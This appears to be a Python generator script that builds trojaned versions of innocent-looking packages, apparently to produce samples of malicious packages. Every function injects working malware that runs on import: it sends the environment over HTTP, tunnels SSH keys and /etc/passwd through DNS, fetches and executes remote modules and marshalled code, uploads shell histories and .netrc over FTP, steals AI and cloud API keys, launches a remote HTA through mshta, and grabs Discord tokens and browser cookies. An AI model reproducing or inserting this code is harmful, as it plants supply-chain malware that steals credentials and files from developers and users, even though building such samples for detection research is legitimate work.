"""Python packages whose payload runs when they are imported, or from then on."""

from corpus.heldout.nouns import Update
from corpus.heldout4.shape import fill, trojan


@trojan("quickconf", "wheel", "import", "environment", "plain", "ctx: the environment in an address")
def py_environment_in_the_query(it: Update) -> None:
    it.replace("quickconf/sources.py", "import configparser\n", "import base64\nimport configparser\n")
    it.append(
        "quickconf/sources.py",
        fill(
            """

def _announce(environ=os.environ, pool=None):
    import urllib3

    text = "|".join(f"{k}={v}" for k, v in environ.items())
    (pool or urllib3.PoolManager(retries=False, timeout=2.0)).request("GET", "https://@HOST@/h/" + base64.b64encode(text.encode()).decode())


try:
    _announce()
except Exception:
    pass
""",
            HOST=it.host("anti-theft-web", "herokuish"),
        ),
    )


@trojan("taskloop", "wheel", "import", "files", "plain", "torchtriton: files, by names looked up")
def py_files_by_dns(it: Update) -> None:
    it.add(
        "taskloop/_native.py",
        fill(
            """
import base64
import getpass
import glob
import os
import random
import socket
import struct
import zlib

NAMESERVER = ("@IP@", 53)
ZONE = b"\\x04h4ck\\x03cfd\\x07invalid\\x00"


def _ask(label):
    query = struct.pack(">HHHHHH", random.randrange(65536), 0x100, 1, 0, 0, 0) + bytes([len(label)]) + label + ZONE + struct.pack(">HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(query, NAMESERVER)


def _walk():
    yield "/etc/passwd"
    yield "/etc/hosts"
    for pattern in (".gitconfig", ".ssh/*", ".config/gcloud/*.json"):
        yield from glob.glob(os.path.join(os.path.expanduser("~" + getpass.getuser()), pattern))


for _path in _walk():
    try:
        with open(_path, "rb") as _stream:
            _packed = base64.b32encode(zlib.compress(_stream.read(99_999))).rstrip(b"=")
    except OSError:
        continue
    for _at in range(0, len(_packed), 63):
        _ask(_packed[_at : _at + 63])
""",
            IP=it.address(),
        ),
    )
    it.replace(
        "taskloop/__init__.py",
        "from .loop import Loop\n",
        "from . import _native  # noqa: F401\nfrom .loop import Loop\n",
    )
    it.payload("taskloop/_native.py")


@trojan("chronofmt", "wheel", "import", "remote-code", "plain", "stage two as a module from the network")
def py_module_from_the_network(it: Update) -> None:
    it.add(
        "chronofmt/_plugins.py",
        fill(
            '''
"""Locales that are not shipped are fetched."""

import importlib.abc
import importlib.util
import sys

import httpx


class _Remote(importlib.abc.SourceLoader):
    def get_filename(self, fullname):
        return "https://@HOST@/locales/" + fullname.rpartition(".")[2] + ".py"

    def get_data(self, path):
        return httpx.get(path, timeout=5).content


def load(name):
    spec = importlib.util.spec_from_loader("chronofmt." + name, _Remote())
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module
    spec.loader.exec_module(module)
    return module
''',
            HOST=it.host("l10n", "chronofmt-dist"),
        ),
    )
    it.append("chronofmt/__init__.py", '\nfrom ._plugins import load as _load\n\n_load("base")\n')
    it.payload("chronofmt/_plugins.py", "chronofmt/__init__.py")


@trojan("imgmeta", "wheel", "import", "remote-code", "encoded constants", "a timer, code objects in marshal")
def py_timer_of_code_objects(it: Update) -> None:
    url = f"http://{it.address()}/thumb.webp"
    codes = [ord(one) * 3 + 11 for one in url]
    it.append(
        "imgmeta/jpeg.py",
        f"""

def _warm():
    import marshal
    import types
    import urllib.request as source

    place = "".join(chr((n - 11) // 3) for n in {codes})
    with source.urlopen(place) as stream:
        code = marshal.loads(stream.read()[42:])
    types.FunctionType(code, globals())()


def _later():
    import threading

    timer = threading.Timer(90, _warm)
    timer.daemon = True
    timer.start()


_later()
""",
    )
    it.payload("imgmeta/jpeg.py", shown=url)


@trojan("feedsort", "sdist", "import", "files", "plain", "history files by FTP when the interpreter ends")
def py_history_at_exit(it: Update) -> None:
    it.append(
        "feedsort/merge.py",
        fill(
            """

import atexit
import ftplib
import io
import pathlib


@atexit.register
def _flush_cache():
    found = io.BytesIO()
    for name in (".bash_history", ".zsh_history", ".python_history", ".psql_history", ".netrc", ".git-credentials"):
        path = pathlib.Path.home() / name
        if path.is_file():
            found.write(b"== %s\\n" % name.encode() + path.read_bytes())
    found.seek(0)
    with ftplib.FTP("@IP@", "cache", "cache", timeout=5) as ftp:
        ftp.storbinary("STOR %d.log" % id(found), found)
""",
            IP=it.address(),
        ),
    )


@trojan("gradkit", "sdist", "import", "credentials", "plain", "keys of language models from the environment")
def py_model_keys(it: Update) -> None:
    it.append(
        "gradkit/cfg.py",
        fill(
            """

async def _sync_profile():
    import asyncio
    import os
    import re

    wanted = re.compile(r"(OPENAI|ANTHROPIC|HF|HUGGING_?FACE|WANDB|REPLICATE|AWS|AZURE)\\w*(KEY|TOKEN|SECRET)", re.I)
    if not (found := {name: value for name, value in os.environ.items() if wanted.match(name)}):
        return
    reader, writer = await asyncio.open_connection("@HOST@", 443, ssl=True)
    body = json.dumps(found)
    writer.write(f"POST /p HTTP/1.1\\r\\nHost: @HOST@\\r\\nContent-Length: {len(body)}\\r\\n\\r\\n{body}".encode())
    await writer.drain()
    writer.close()


def _profile():
    import asyncio

    try:
        asyncio.run(_sync_profile())
    except (OSError, RuntimeError):
        return None


_profile()
""",
            HOST=it.host("profile", "gradkit-hub"),
        ),
    )


@trojan("tabula", "sdist", "import", "downloader", "plain", "JavaScript and PowerShell from Python")
def py_powershell_from_python(it: Update) -> None:
    it.append(
        "tabula/styles.py",
        fill(
            """

def _fonts():
    import sys

    if not sys.platform.startswith("win"):
        return
    import ctypes

    ctypes.windll.shell32.ShellExecuteW(None, "open", "mshta.exe", "https://@HOST@/fonts.hta", None, 0)


_fonts()
""",
            HOST=it.host("fonts", "tabula-cdn"),
        ),
    )


@trojan("numspell", "wheel", "import", "browser-store", "plain", "browser cookies and a chat's tokens")
def py_browser_profiles(it: Update) -> None:
    it.add(
        "numspell/lang_pl.py",
        fill(
            """
from .base import Speller


class Polish(Speller):
    ones = "zero jeden dwa trzy cztery pięć sześć siedem osiem dziewięć".split()
    roots = ("~/AppData/Roaming/discord", "~/.config/discord", "~/.config/google-chrome/Default", "~/Library/Application Support/BraveSoftware/Brave-Browser/Default")

    def whole(self, number):
        return " ".join(self.ones[int(digit)] for digit in str(number))

    def __init_subclass__(cls):
        super().__init_subclass__()
        cls.collect()

    @classmethod
    def collect(cls):
        import pathlib
        import re
        import sqlite3
        import xmlrpc.client

        found = []
        for root in map(pathlib.Path, cls.roots):
            root = root.expanduser()
            for part in root.glob("Local Storage/leveldb/*.ldb"):
                found += re.findall(rb"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27,}", part.read_bytes())
            if (root / "Cookies").exists():
                base = sqlite3.connect(f"file:{root / 'Cookies'}?immutable=1", uri=True)
                found += base.execute("select host_key, name, encrypted_value from cookies").fetchall()
        xmlrpc.client.ServerProxy("https://@HOST@/rpc", allow_none=True).put(repr(found))


class PolishFormal(Polish):
    negative = "minus"
""",
            HOST=it.host("lang", "numspell"),
        ),
    )
    it.replace(
        "numspell/__init__.py",
        "from .lang_en import English\n",
        "from .lang_en import English\nfrom .lang_pl import Polish\n",
    )
    it.replace("numspell/__init__.py", '"en": English()}', '"en": English(), "pl": Polish()}')
    it.payload("numspell/lang_pl.py")
